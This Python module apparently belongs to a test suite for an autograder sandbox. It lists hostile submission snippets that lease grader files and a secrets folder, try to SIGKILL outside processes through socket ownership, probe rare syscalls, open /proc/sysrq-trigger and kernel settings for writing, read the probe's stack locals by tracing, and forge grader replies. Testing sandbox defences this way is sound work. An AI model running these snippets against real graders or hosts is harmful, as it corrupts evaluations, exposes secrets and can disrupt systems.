"""Attacks by what a descriptor can do: commands of fcntl and ioctl, the channel's other features,
rare system calls.
"""

from ..submissions import SPY, Attack

ATTACKS = [
    Attack("holds leases", 20, "Lets others wait before they may open a file.", SPY, """
import fcntl
signal.signal(signal.SIGIO, signal.SIG_IGN)
for path in (*glob.glob(KIT + "/autograder/engine/*.py"), *glob.glob(SECRETS + "/*"),
             *glob.glob(os.path.dirname(torch.__file__) + "/nn/*.py"), __file__):
    try:
        with open(path) as file:
            fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_WRLCK)
    except OSError:
        continue
    escaped("leased " + os.path.basename(path))
""", stopped_by=("seccomp",)),
    Attack("is told of folders", 21, "Asks the kernel to tell when somebody works in a folder.",
           SPY, """
import fcntl
for folder in (KIT, os.path.dirname(torch.__file__), "/tmp", ".."):
    try:
        descriptor = os.open(folder, os.O_RDONLY)
        fcntl.fcntl(descriptor, fcntl.F_NOTIFY, fcntl.DN_ACCESS | fcntl.DN_CREATE)
    except OSError:
        continue
    escaped("is told of " + folder)
""", stopped_by=("seccomp",)),
    Attack("signals by a descriptor", 20, "Names another process as the owner of a socket.",
           SPY, """
import fcntl, socket
ends = socket.socketpair()
for pid in OUTSIDERS:
    for command, argument in ((fcntl.F_SETOWN, pid), (0x8901, struct.pack("i", pid)),
                              (0x8902, struct.pack("i", pid))):
        call = fcntl.fcntl if command == fcntl.F_SETOWN else fcntl.ioctl
        if attempt(call, ends[0], command, argument):
            attempt(fcntl.fcntl, ends[0], 10, signal.SIGKILL)  # F_SETSIG
            fcntl.fcntl(ends[0], fcntl.F_SETFL, os.O_ASYNC)
            ends[1].send(b"x")
            escaped(f"a socket of {pid}")
""", stopped_by=("seccomp",)),
    Attack("rare system calls", 20, "Calls that reach around the others.", SPY, """
if os.uname().machine == "x86_64":
    calls = {"io_uring_setup": 425, "userfaultfd": 323, "bpf": 321, "perf_event_open": 298,
             "memfd_secret": 447, "process_madvise": 440, "pidfd_getfd": 438, "kcmp": 312,
             "open_by_handle_at": 304, "fanotify_init": 300, "quotactl": 179, "syslog": 103,
             "mount_setattr": 442, "fsopen": 430, "move_mount": 429, "lookup_dcookie": 212,
             "vhangup": 153, "swapoff": 168, "acct": 163, "kexec_load": 246, "uselib": 134,
             "migrate_pages": 256, "move_pages": 279, "set_mempolicy": 238}
    for name, number in calls.items():
        ctypes.set_errno(0)
        libc.syscall(number, 0, 0, 0, 0, 0, 0)
        if ctypes.get_errno() not in (1, 38):  # EPERM, ENOSYS
            escaped(f"may call {name}: {ctypes.get_errno()}")
""", stopped_by=("seccomp",)),
    Attack("sends descriptors", 17, "Sends the grader open files instead of a reply.", SPY, """
import socket
for number in sockets():
    channel = socket.socket(fileno=os.dup(number))
    for _ in range(200):
        files = [os.open("/dev/zero", os.O_RDONLY) for _ in range(20)]
        attempt(socket.send_fds, channel, [b"x"], files)
        for file in files:
            os.close(file)
"""),
    Attack("data out of band", 17, "Sends urgent data and half closes the channel.", SPY, """
import socket
for number in sockets():
    channel = socket.socket(fileno=os.dup(number))
    attempt(channel.send, forged()[:20], socket.MSG_OOB)
    attempt(channel.shutdown, socket.SHUT_RD)
    attempt(channel.setsockopt, socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 600))
    attempt(channel.setsockopt, socket.SOL_SOCKET, socket.SO_SNDBUF, 1)
""", honest=True),
    Attack("writes settings of the kernel", 19, "Opens files of /proc and /sys for writing.",
           SPY, """
places = ["/proc/sysrq-trigger", "/proc/self/oom_score_adj", *glob.glob("/proc/sys/kernel/*"),
          *glob.glob("/proc/sys/vm/*"), *glob.glob("/sys/fs/cgroup/*"), "/sys/power/state",
          *(f"/proc/{pid}/{name}" for pid in OUTSIDERS
            for name in ("oom_score_adj", "clear_refs", "coredump_filter", "comm"))]
for place in places:
    if place != "/proc/self/oom_score_adj" and attempt(os.open, place, os.O_WRONLY):
        escaped("may write " + place)
"""),
    Attack("traces itself", 7, "Watches every call, to see what the probe has on its stack.",
           SPY, """
import gc
def look(frame, event, argument):
    tell(repr({name: value for name, value in frame.f_locals.items()
               if isinstance(value, (str, bytes))}))
    return look
sys.settrace(look)
sys.setprofile(look)
threading.settrace(look)
gc.callbacks.append(lambda phase, info: look(sys._getframe(), phase, info))
sys.addaudithook(lambda name, arguments: None)
gc.collect()
"""),
    Attack("answers at the end", 2, "Replies when the interpreter ends, or its answer is freed.",
           SPY + """
import atexit, weakref
atexit.register(lambda: send(forged()))
class Late:
    def __del__(self): send(forged())
weakref.finalize(Late(), send, forged())
sys.unraisablehook = sys.excepthook = threading.excepthook = lambda *a: send(forged())
kept = Late()
""", "return [Late()]"),
    Attack("answers from a thread", 17, "A thread waits until the call has returned.",
           SPY + """
def later():
    time.sleep(0.02)
    send(forged())
threading.Thread(target=later).start()
""", honest=True),
    Attack("an answer that changes", 6, "Another value whenever it is read.", """
import numpy
class Turning:
    turn = 0
    def __array__(self, *a, **k):
        Turning.turn += 1
        return numpy.full((2, 4), Turning.turn)
    __array_interface__ = property(lambda self: {"shape": (1 << 20,), "typestr": "<f4",
                                                "data": (4096, False), "version": 3})
    __dlpack__ = __cuda_array_interface__ = __array_interface__
""", "return [Turning(), {'boxes': Turning()}]"),
    Attack("numbers beside the wire's", 6, "Text that Python takes for numbers, keys that collide.",
           SPY, """
send(frame('[{"dict": [["value", [{"float": "1_0e999999"}, {"float": [1]}, {"float": "\\\\u0663"},'
           ' 1e400, -0, ' + "9" * 4300 + ']], ["value", 1]]}, []]'))
os._exit(0)
"""),
]
